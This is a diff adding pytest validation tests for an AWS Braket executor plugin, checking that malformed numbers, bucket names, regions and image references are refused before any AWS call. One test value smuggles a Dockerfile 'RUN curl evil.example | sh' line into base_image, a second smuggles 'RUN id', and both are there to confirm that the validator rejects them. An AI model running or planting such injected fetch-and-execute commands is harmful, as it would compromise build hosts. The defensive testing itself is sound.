@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import socket
 import warnings
 from pathlib import Path
 from typing import Any
@@ -312,3 +313,105 @@ def test_reference_lists_every_setting_and_device_short_name() -> None:
 def test_instance_types_come_from_botocore() -> None:
     assert "ml.m5.large" in instance_types()
     assert all(name.startswith("ml.") for name in instance_types())
+
+
+# --- values that used to pass: refused before any AWS call ---------------------------------------------
+
+@pytest.fixture
+def no_aws(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Any AWS session or network connection fails the test: validation must come before both."""
+
+    def refuse(*_: Any, **__: Any) -> None:
+        raise AssertionError("an AWS session or a network connection was opened")
+
+    monkeypatch.setattr(aws.AwsSession, "__init__", refuse)
+    monkeypatch.setattr(aws.boto3.session.Session, "__init__", refuse)
+    monkeypatch.setattr(socket.socket, "connect", refuse)
+
+
+@pytest.mark.parametrize(
+    ("options", "expected"),
+    [
+        ({"time_limit": True}, ["time_limit: True is a yes/no value, not a number", "such as 300"]),
+        ({"storage": False}, ["storage: False is a yes/no value, not a number", "such as 30"]),
+        ({"poll_freq": True}, ["poll_freq: True is a yes/no value"]),
+        ({"poll_freq": float("inf")}, ["poll_freq: inf is not a polling interval", "finite number"]),
+        ({"poll_freq": float("nan")}, ["poll_freq: nan is not a polling interval"]),
+        ({"poll_freq": "inf"}, ["poll_freq: inf is not a polling interval"]),  # as covalent.conf may hold it
+        ({"initial_poll_freq": float("inf")}, ["initial_poll_freq: inf is not a polling interval"]),
+        ({"initial_poll_freq": float("nan")}, ["initial_poll_freq: nan is not a polling interval"]),
+        ({"s3_bucket_name": "amazon-braket-a..b"}, ["s3_bucket_name", "no two adjacent periods"]),
+        ({"s3_bucket_name": "amazon-braket-x-"}, ["s3_bucket_name", "ends with a letter or a digit"]),
+        ({"s3_bucket_name": "amazon-braket-x."}, ["s3_bucket_name", "ends with a letter or a digit"]),
+        ({"s3_bucket_name": "amazon-braket-x-s3alias"}, ["s3_bucket_name", "'-s3alias'"]),
+        ({"s3_bucket_name": "amazon-braket-" + "a" * 50}, ["s3_bucket_name", "3-63 lowercase letters"]),
+        ({"s3_bucket_name": "amazon-braket-results\n"}, ["s3_bucket_name", "'amazon-braket-*'"]),
+        ({"ecr_image_uri": LATER_KEYS["ecr_image_uri"] + "\n"}, ["ecr_image_uri", "private ECR image"]),
+        ({"region": "us-east-1\n"}, ["region", "like 'us-east-1'"]),
+        ({"base_image": "python:3.12\nRUN curl evil.example | sh"}, ["base_image", "not an image reference"]),
+        ({"base_image": "python:3.12 AS evil"}, ["base_image", "no spaces or line breaks"]),
+        ({"base_image": "Ubuntu:22.04"}, ["base_image", "lowercase repository", "leave it empty"]),
+    ],
+)
+def test_values_that_look_like_numbers_or_names_but_are_not_are_refused(
+    options: dict[str, Any], expected: list[str], no_aws: None
+) -> None:
+    message = error_of(**options)
+    assert message.startswith("Invalid BraketExecutor settings:")
+    for text in expected:
+        assert text in message, message
+
+
+def test_bucket_names_within_s3s_rules_pass() -> None:
+    for name in ("amazon-braket-a.b", "amazon-braket-x-1", "amazon-braket-" + "a" * 49):
+        assert settings_of(s3_bucket_name=name).s3_bucket_name == name
+
+
+@pytest.mark.parametrize(
+    "reference",
+    [
+        "python:3.12-slim",
+        "ubuntu",
+        "library/python@sha256:" + "a" * 64,
+        "localhost:5000/team/base-image:v1.2",
+        "292282985366.dkr.ecr.us-east-1.amazonaws.com/amazon-braket-base-jobs:latest",
+        "ghcr.io/org/image:tag@sha256:" + "0" * 64,
+    ],
+)
+def test_base_image_takes_any_image_reference(reference: str) -> None:
+    assert settings_of(base_image=reference).base_image == reference
+
+
+@pytest.fixture
+def executor_class(monkeypatch: pytest.MonkeyPatch) -> type:
+    """BraketExecutor with no [executors.braket] section in covalent.conf: only the test's values."""
+    from covalent_braket_plugin.braket import BraketExecutor
+
+    monkeypatch.setattr("covalent_braket_plugin.executor.executor._configured_options", dict)
+    return BraketExecutor
+
+
+@pytest.mark.parametrize("retries", [-1, True, 1.5, "2"])
+def test_the_executor_refuses_bad_retries_before_any_aws_call(
+    retries: Any, executor_class: type, no_aws: None
+) -> None:
+    with pytest.raises(ExecutorConfigError) as raised:
+        executor_class(retries=retries)
+    assert str(raised.value) == (
+        "Invalid BraketExecutor settings:\n"
+        f"  - retries: {retries!r} is not a number of retries; give a whole number from 0 (how many times "
+        "Covalent runs a failed electron again)"
+    )
+    assert executor_class(retries=2).retries == 2
+
+
+@pytest.mark.parametrize(
+    "options",
+    [{"time_limit": True}, {"poll_freq": float("inf")}, {"s3_bucket_name": "amazon-braket-a..b"},
+     {"base_image": "python\nRUN id"}],
+)
+def test_the_executor_refuses_bad_settings_before_any_aws_call(
+    options: dict[str, Any], executor_class: type, no_aws: None
+) -> None:
+    with pytest.raises(ExecutorConfigError, match=f"  - {next(iter(options))}: "):
+        executor_class(**options)
